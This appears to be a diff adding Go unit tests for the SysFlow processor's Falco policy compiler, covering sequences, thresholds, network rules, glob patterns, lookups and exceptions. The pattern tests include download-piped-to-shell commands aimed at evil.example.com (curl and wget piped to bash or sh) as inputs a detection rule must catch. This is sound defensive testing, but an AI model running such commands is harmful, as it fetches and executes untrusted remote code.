@@ -22,13 +22,20 @@ package falco_test
 
 import (
 	"os"
+	"path/filepath"
+	"strings"
 	"testing"
+	"time"
 
 	"github.com/stretchr/testify/assert"
 	"github.com/sysflow-telemetry/sf-apis/go/ioutils"
 	"github.com/sysflow-telemetry/sf-apis/go/logger"
+	"github.com/sysflow-telemetry/sf-apis/go/sfgo"
+	"github.com/sysflow-telemetry/sf-processor/core/policyengine/policy"
 	"github.com/sysflow-telemetry/sf-processor/core/policyengine/policy/falco"
+	"github.com/sysflow-telemetry/sf-processor/core/policyengine/source"
 	"github.com/sysflow-telemetry/sf-processor/core/policyengine/source/flatrecord"
+	"github.com/sysflow-telemetry/sf-processor/core/policyengine/source/flatrecord/flatrecordtest"
 )
 
 var rulesPath string = "../../../../resources/policies/runtimeintegrity"
@@ -45,3 +52,378 @@ func TestCompiler(t *testing.T) {
 	_, _, err = pc.Compile(paths...)
 	assert.NoError(t, err)
 }
+
+func TestCompileSequence(t *testing.T) {
+	pc := falco.NewPolicyCompiler(flatrecord.NewOperations())
+	rules, _, err := pc.Compile("../../../../resources/policies/tests/unit_test_sequence.yaml")
+	assert.NoError(t, err)
+	assert.Len(t, rules, 1)
+	seq := rules[0].Sequence
+	assert.NotNil(t, seq)
+	assert.Len(t, seq.Steps, 2)
+	assert.Equal(t, []string{"sf.proc.oid"}, seq.GroupBy)
+	assert.Equal(t, 30*time.Second, seq.Window)
+}
+
+func TestCompileThreshold(t *testing.T) {
+	pc := falco.NewPolicyCompiler(flatrecord.NewOperations())
+	rules, _, err := pc.Compile("../../../../resources/policies/tests/unit_test_threshold.yaml")
+	assert.NoError(t, err)
+	assert.Len(t, rules, 2)
+	assert.Equal(t, &policy.Threshold{Count: 5, Window: 10 * time.Second, GroupBy: []string{"sf.proc.oid"}}, rules[0].Threshold)
+	assert.Equal(t, &policy.Threshold{Count: 20, Window: time.Minute, GroupBy: []string{"sf.net.sip", "sf.net.dip"}, Distinct: "sf.net.dport"}, rules[1].Threshold)
+}
+
+func TestCompileSuppress(t *testing.T) {
+	pc := falco.NewPolicyCompiler(flatrecord.NewOperations())
+	rules, _, err := pc.Compile("../../../../resources/policies/tests/unit_test_suppress.yaml")
+	assert.NoError(t, err)
+	assert.Len(t, rules, 2)
+	assert.Equal(t, &policy.Suppression{Window: 10 * time.Minute, GroupBy: []string{"sf.proc.exe", "sf.container.id"}}, rules[0].Suppress)
+	assert.Equal(t, &policy.Suppression{GroupBy: []string{}}, rules[1].Suppress)
+}
+
+func TestCompileNetwork(t *testing.T) {
+	pc := falco.NewPolicyCompiler(flatrecord.NewOperations())
+	rules, _, err := pc.Compile("../../../../resources/policies/tests/unit_test_network.yaml")
+	assert.NoError(t, err)
+	diags := pc.(policy.Summarizer).Summary().Diagnostics
+	assert.Len(t, diags, 1)
+	assert.Equal(t, 1, diags.Count(policy.SeverityInfo))
+	conds := make(map[string]policy.Criterion[*flatrecord.Record])
+	for _, r := range rules {
+		conds[r.Name] = r.Condition
+	}
+	assert.Len(t, conds, 6)
+
+	connect := func(sip, dip [4]int64) *flatrecord.Record {
+		fr := flatrecordtest.NewFlatRecord(sfgo.NET_FLOW)
+		fr.Ints[sfgo.SYSFLOW_IDX][sfgo.FL_NETW_SIP_INT] = sip[0] | sip[1]<<8 | sip[2]<<16 | sip[3]<<24
+		fr.Ints[sfgo.SYSFLOW_IDX][sfgo.FL_NETW_DIP_INT] = dip[0] | dip[1]<<8 | dip[2]<<16 | dip[3]<<24
+		return flatrecord.NewRecord(fr)
+	}
+	host := [4]int64{172, 17, 0, 2}
+
+	for _, tc := range []struct {
+		rule    string
+		r       *flatrecord.Record
+		matched bool
+	}{
+		{"Internal connection", connect(host, [4]int64{10, 1, 2, 3}), true},
+		{"Internal connection", connect(host, [4]int64{192, 168, 0, 1}), true},
+		{"Internal connection", connect(host, [4]int64{172, 16, 0, 1}), false},
+		{"Private connection", connect(host, [4]int64{172, 31, 255, 1}), true},
+		{"Private connection", connect(host, [4]int64{172, 32, 0, 1}), false},
+		{"Private connection", connect(host, [4]int64{8, 8, 8, 8}), false},
+		{"Loopback connection", connect([4]int64{127, 0, 0, 1}, host), true},
+		{"Loopback connection", connect(host, [4]int64{127, 0, 0, 53}), true},
+		{"Loopback connection", connect(host, host), false},
+		{"Link-local connection", connect(host, [4]int64{169, 254, 169, 254}), true},
+		{"Link-local connection", connect(host, [4]int64{169, 255, 0, 1}), false},
+		{"Mapped address connection", connect(host, [4]int64{10, 0, 0, 1}), true},
+		{"Mapped address connection", connect(host, [4]int64{10, 0, 0, 2}), false},
+		{"Public connection", connect(host, [4]int64{8, 8, 8, 8}), true},
+		{"Public connection", connect(host, [4]int64{192, 168, 1, 1}), false},
+	} {
+		assert.Equal(t, tc.matched, conds[tc.rule].Eval(tc.r), "%s on %s", tc.rule, flatrecord.Mapper.MapStr("sf.net.dip")(tc.r))
+	}
+
+	_, _, err = falco.NewPolicyCompiler[mapRecord](mapOps{}).Compile("../../../../resources/policies/tests/unit_test_network.yaml")
+	assert.Error(t, err)
+}
+
+func TestCompilePatterns(t *testing.T) {
+	pc := falco.NewPolicyCompiler(flatrecord.NewOperations())
+	rules, _, err := pc.Compile("../../../../resources/policies/tests/unit_test_patterns.yaml")
+	assert.NoError(t, err)
+	diags := pc.(policy.Summarizer).Summary().Diagnostics
+	assert.Len(t, diags, 1)
+	assert.Equal(t, 1, diags.Count(policy.SeverityInfo))
+	conds := make(map[string]policy.Criterion[*flatrecord.Record])
+	for _, r := range rules {
+		conds[r.Name] = r.Condition
+	}
+	assert.Len(t, conds, 3)
+
+	newRecord := func(rtype int64, exe string, args string, path string) *flatrecord.Record {
+		fr := flatrecordtest.NewFlatRecord(rtype)
+		fr.Strs[sfgo.SYSFLOW_IDX][sfgo.PROC_EXE_STR] = exe
+		fr.Strs[sfgo.SYSFLOW_IDX][sfgo.PROC_EXEARGS_STR] = args
+		fr.Strs[sfgo.SYSFLOW_IDX][sfgo.FILE_PATH_STR] = path
+		return flatrecord.NewRecord(fr)
+	}
+	write := func(path string) *flatrecord.Record { return newRecord(sfgo.FILE_EVT, "/usr/bin/vi", "", path) }
+	exec := func(exe string, args string) *flatrecord.Record { return newRecord(sfgo.PROC_EVT, exe, args, "") }
+
+	for i, tc := range []struct {
+		rule    string
+		r       *flatrecord.Record
+		matched bool
+	}{
+		{"Configuration file modified", write("/etc/resolv.conf"), true},
+		{"Configuration file modified", write("/etc/nginx/conf.d/default.conf"), true},
+		{"Configuration file modified", write("/etc/nginx/nginx.conf.bak"), false},
+		{"Configuration file modified", write("/usr/etc/app.conf"), false},
+		{"Hidden file modified", write("/home/user/.bashrc"), true},
+		{"Hidden file modified", write(".profile"), true},
+		{"Hidden file modified", write("/home/user/../bashrc"), false},
+		{"Hidden file modified", write("/home/user/bashrc"), false},
+		{"Download piped to shell", exec("/bin/sh", "-c curl -s https://evil.example.com/x | bash"), true},
+		{"Download piped to shell", exec("/bin/sh", "-c wget -qO- https://evil.example.com/x|sh"), true},
+		{"Download piped to shell", exec("/bin/sh", "-c curl -o /tmp/x https://evil.example.com/x"), false},
+		{"Download piped to shell", exec("/bin/sh", "-c curl -s https://get.example.com/install.sh | sh"), false},
+	} {
+		assert.Equal(t, tc.matched, conds[tc.rule].Eval(tc.r), "%s (case %d)", tc.rule, i)
+	}
+}
+
+func TestCompileLookup(t *testing.T) {
+	dir := t.TempDir()
+	for _, name := range []string{"unit_test_lookup.yaml", "bad_ips.txt", "blocked_networks.txt", "bad_tools.csv"} {
+		b, err := os.ReadFile(filepath.Join("../../../../resources/policies/tests/lookup", name))
+		assert.NoError(t, err)
+		assert.NoError(t, os.WriteFile(filepath.Join(dir, name), b, 0600))
+	}
+	pc := falco.NewPolicyCompiler(flatrecord.NewOperations())
+	rules, _, err := pc.Compile(filepath.Join(dir, "unit_test_lookup.yaml"))
+	assert.NoError(t, err)
+	assert.Empty(t, pc.(policy.Summarizer).Summary().Diagnostics)
+	assert.Equal(t, 4, pc.(policy.Summarizer).Summary().Lists)
+	conds := make(map[string]policy.Criterion[*flatrecord.Record])
+	for _, r := range rules {
+		conds[r.Name] = r.Condition
+	}
+	assert.Len(t, conds, 3)
+	lookups := pc.(policy.LookupProvider).Lookups()
+	assert.Len(t, lookups, 3)
+	assert.Equal(t, 5*time.Minute, lookups[0].Interval)
+	assert.Equal(t, policy.LookupCSV, lookups[1].Format)
+
+	connect := func(a, b, c, d int64) *flatrecord.Record {
+		fr := flatrecordtest.NewFlatRecord(sfgo.NET_FLOW)
+		fr.Ints[sfgo.SYSFLOW_IDX][sfgo.FL_NETW_DIP_INT] = a | b<<8 | c<<16 | d<<24
+		return flatrecord.NewRecord(fr)
+	}
+	exec := func(exe string) *flatrecord.Record {
+		fr := flatrecordtest.NewFlatRecord(sfgo.PROC_EVT)
+		fr.Strs[sfgo.SYSFLOW_IDX][sfgo.PROC_EXE_STR] = exe
+		return flatrecord.NewRecord(fr)
+	}
+	check := func(cases []struct {
+		rule    string
+		r       *flatrecord.Record
+		matched bool
+	}) {
+		for i, tc := range cases {
+			assert.Equal(t, tc.matched, conds[tc.rule].Eval(tc.r), "%s (case %d)", tc.rule, i)
+		}
+	}
+	check([]struct {
+		rule    string
+		r       *flatrecord.Record
+		matched bool
+	}{
+		{"Connection to bad IP", connect(203, 0, 113, 7), true},
+		{"Connection to bad IP", connect(198, 51, 100, 1), true},
+		{"Connection to bad IP", connect(203, 0, 113, 9), false},
+		{"Connection to blocked network", connect(198, 19, 1, 1), true},
+		{"Connection to blocked network", connect(198, 20, 0, 1), false},
+		{"Suspicious tool", exec("/usr/bin/masscan"), true},
+		{"Suspicious tool", exec("/usr/bin/nmap"), true},
+		{"Suspicious tool", exec("/usr/bin/scanner"), false},
+	})
+
+	// reloaded lookups update the rules that reference them
+	assert.NoError(t, os.WriteFile(filepath.Join(dir, "bad_ips.txt"), []byte("203.0.113.9\n"), 0600))
+	assert.NoError(t, os.WriteFile(filepath.Join(dir, "blocked_networks.txt"), []byte("198.18.0.0/15\nnot a network\n"), 0600))
+	for _, l := range lookups {
+		_, err := l.Refresh()
+		assert.NoError(t, err)
+	}
+	check([]struct {
+		rule    string
+		r       *flatrecord.Record
+		matched bool
+	}{
+		{"Connection to bad IP", connect(203, 0, 113, 7), false},
+		{"Connection to bad IP", connect(203, 0, 113, 9), true},
+		{"Connection to bad IP", connect(198, 51, 100, 1), true},
+		{"Connection to blocked network", connect(198, 19, 1, 1), true},
+	})
+
+	_, _, err = falco.NewPolicyCompiler(flatrecord.NewOperations()).Compile("../../../../resources/policies/tests/lookup/invalid.yaml")
+	var diags policy.Diagnostics
+	assert.ErrorAs(t, err, &diags)
+	assert.Len(t, diags, 3)
+}
+
+func TestCompileOutput(t *testing.T) {
+	pc := falco.NewPolicyCompiler(flatrecord.NewOperations())
+	rules, _, err := pc.Compile("../../../../resources/policies/tests/unit_test_output.yaml")
+	assert.NoError(t, err)
+	assert.Len(t, rules, 2)
+	assert.Equal(t, "Shell spawned in container (proc=%sf.proc.name cmd=%sf.proc.cmdline container=%sf.container.id)", rules[0].Output.Format)
+	assert.Equal(t, "Outbound connection (proc=%sf.proc.name dip=%sf.net.dip dport=%sf.net.dport)", rules[1].Output.Format)
+}
+
+// mapOps implements string operations over records represented as attribute maps.
+type mapOps struct{}
+
+type mapRecord map[string]string
+
+func (ops mapOps) Exists(attr string) (policy.Criterion[mapRecord], error) {
+	return policy.Criterion[mapRecord]{Pred: func(r mapRecord) bool { return r[attr] != "" }}, nil
+}
+
+func (ops mapOps) Compare(lattr string, rattr string, op source.Operator) (policy.Criterion[mapRecord], error) {
+	return ops.FoldAny(lattr, []string{rattr}, op)
+}
+
+func (ops mapOps) FoldAny(attr string, list []string, op source.Operator) (policy.Criterion[mapRecord], error) {
+	o, _ := source.StrOps{}.OpFunc(op)
+	p := func(r mapRecord) bool {
+		for _, v := range list {
+			if o(r[attr], v) {
+				return true
+			}
+		}
+		return false
+	}
+	return policy.Criterion[mapRecord]{Pred: p}, nil
+}
+
+func (ops mapOps) FoldAll(attr string, list []string, op source.Operator) (policy.Criterion[mapRecord], error) {
+	return policy.False[mapRecord](), nil
+}
+
+func (ops mapOps) RegExp(attr string, re string) (policy.Criterion[mapRecord], error) {
+	return policy.False[mapRecord](), nil
+}
+
+func (ops mapOps) Glob(attr string, pattern string) (policy.Criterion[mapRecord], error) {
+	return policy.False[mapRecord](), nil
+}
+
+func (ops mapOps) MapStr(attr string) func(r mapRecord) string {
+	return func(r mapRecord) string { return r[attr] }
+}
+
+func TestCompileAppend(t *testing.T) {
+	pc := falco.NewPolicyCompiler[mapRecord](mapOps{})
+	rules, _, err := pc.Compile("../../../../resources/policies/tests/append/base.yaml", "../../../../resources/policies/tests/append/local.yaml")
+	assert.NoError(t, err)
+	assert.Len(t, rules, 1)
+	c := rules[0].Condition
+	shell := mapRecord{"sf.type": "PE", "sf.opflags": "EXEC", "sf.proc.name": "zsh", "sf.container.id": "abc"}
+	assert.True(t, c.Eval(shell))
+	shell["sf.pproc.name"] = "sshd"
+	assert.False(t, c.Eval(shell))
+	shell["sf.pproc.name"] = "tmux"
+	assert.False(t, c.Eval(shell))
+	shell["sf.pproc.name"] = "bash"
+	shell["sf.container.id"] = "host"
+	assert.False(t, c.Eval(shell))
+}
+
+func TestCompileAppendUndefined(t *testing.T) {
+	pc := falco.NewPolicyCompiler[mapRecord](mapOps{})
+	_, _, err := pc.Compile("../../../../resources/policies/tests/append/undefined.yaml")
+	assert.Error(t, err)
+}
+
+func TestCompileExceptions(t *testing.T) {
+	pc := falco.NewPolicyCompiler[mapRecord](mapOps{})
+	rules, _, err := pc.Compile("../../../../resources/policies/tests/exceptions/base.yaml", "../../../../resources/policies/tests/exceptions/local.yaml")
+	assert.NoError(t, err)
+	assert.Len(t, rules, 1)
+	c := rules[0].Condition
+	write := func(proc string, dir string) mapRecord {
+		return mapRecord{"sf.type": "FF", "sf.opflags": "WRITE", "sf.proc.name": proc, "sf.file.directory": dir}
+	}
+	assert.True(t, c.Eval(write("cp", "/bin")))
+	assert.True(t, c.Eval(write("cp", "/usr/bin")))
+	assert.False(t, c.Eval(write("apk", "/usr/bin")))
+	assert.True(t, c.Eval(write("apk", "/bin")))
+	assert.False(t, c.Eval(write("rpm", "/bin")))
+	assert.False(t, c.Eval(write("pip", "/usr/bin")))
+	r := write("bash", "/bin")
+	r["sf.proc.cmdline"] = "bash --install"
+	assert.False(t, c.Eval(r))
+	r = write("cp", "/bin")
+	r["sf.container.image"] = "sysflow"
+	assert.False(t, c.Eval(r))
+
+	// each applied exception is reported in the compile diagnostics
+	var applied []string
+	for _, d := range pc.(policy.Summarizer).Summary().Diagnostics {
+		if d.Severity == policy.SeverityInfo {
+			assert.Equal(t, "Write below binary dir", d.Rule)
+			applied = append(applied, d.Msg)
+		}
+	}
+	assert.Equal(t, []string{
+		"exception proc_writer applied on fields (sf.proc.name, sf.file.directory) with values ([apk, npm], /usr), ([dpkg, rpm], /bin)",
+		"exception trusted_container applied on fields (sf.container.image) with values (falco), (sysflow)",
+		"exception proc_writer applied on fields (sf.proc.name, sf.file.directory) with values (pip, /usr/bin)",
+		"exception root_cmd applied on fields (sf.proc.name, sf.proc.cmdline) with values (bash, --install)",
+	}, applied)
+}
+
+func TestCompileExceptionsInvalid(t *testing.T) {
+	pc := falco.NewPolicyCompiler[mapRecord](mapOps{})
+	_, _, err := pc.Compile("../../../../resources/policies/tests/exceptions/invalid.yaml")
+	assert.Error(t, err)
+}
+
+func TestCompileDiagnostics(t *testing.T) {
+	pc := falco.NewPolicyCompiler(flatrecord.NewOperations())
+	_, _, err := pc.Compile("../../../../resources/policies/tests/diagnostics/invalid.yaml")
+	var diags policy.Diagnostics
+	assert.ErrorAs(t, err, &diags)
+	found := make(map[string]policy.Diagnostic)
+	for _, d := range diags {
+		found[d.Rule] = d
+	}
+	assert.Len(t, found, 6)
+	assert.Equal(t, policy.Diagnostic{File: "../../../../resources/policies/tests/diagnostics/invalid.yaml", Line: 6, Column: 14,
+		Rule: "Undefined macro", Severity: policy.SeverityError, Msg: "undefined macro spawned_proces"}, found["Undefined macro"])
+	assert.Equal(t, policy.SeverityWarning, found["Unknown field"].Severity)
+	assert.Equal(t, "unknown field sf.proc.nme", found["Unknown field"].Msg)
+	assert.Equal(t, policy.SeverityError, found["Type mismatch"].Severity)
+	assert.Equal(t, "operator > cannot be applied to string field sf.proc.name", found["Type mismatch"].Msg)
+	assert.Equal(t, policy.SeverityWarning, found["Unreachable rule"].Severity)
+	assert.Equal(t, policy.SeverityError, found["Invalid network"].Severity)
+	assert.Equal(t, "invalid CIDR 10.0.0.0/33", found["Invalid network"].Msg)
+	assert.Equal(t, policy.SeverityError, found["Invalid pattern"].Severity)
+	assert.Equal(t, "invalid glob pattern /etc/[a-z: unterminated character class", found["Invalid pattern"].Msg)
+}
+
+func TestCompileUnreachable(t *testing.T) {
+	// reachability follows the prefilter values inferred for the policy engine's rule index
+	pc := falco.NewPolicyCompiler(flatrecord.NewOperations())
+	_, _, err := pc.Compile("../../../../resources/policies/tests/prefilter/policy.yaml")
+	assert.NoError(t, err)
+	var unreachable []string
+	for _, d := range pc.(policy.Summarizer).Summary().Diagnostics {
+		if strings.HasPrefix(d.Msg, "rule is unreachable") {
+			unreachable = append(unreachable, d.Rule)
+		}
+	}
+	assert.Equal(t, []string{"Setuid on file flows"}, unreachable)
+}
+
+func TestCompileSummary(t *testing.T) {
+	pc := falco.NewPolicyCompiler(flatrecord.NewOperations())
+	_, _, err := pc.Compile("../../../../resources/policies/tests/lint/policy.yaml")
+	assert.NoError(t, err)
+	summary := pc.(policy.Summarizer).Summary()
+	assert.Equal(t, 2, summary.Rules)
+	assert.Equal(t, 2, summary.Macros)
+	assert.Equal(t, 2, summary.Lists)
+	msgs := make([]string, 0)
+	for _, d := range summary.Diagnostics {
+		assert.Equal(t, policy.SeverityWarning, d.Severity)
+		msgs = append(msgs, d.Msg)
+	}
+	assert.Equal(t, []string{"rule is already defined, set append to true to extend it", "unused list unused_list", "unused macro unused_macro"}, msgs)
+}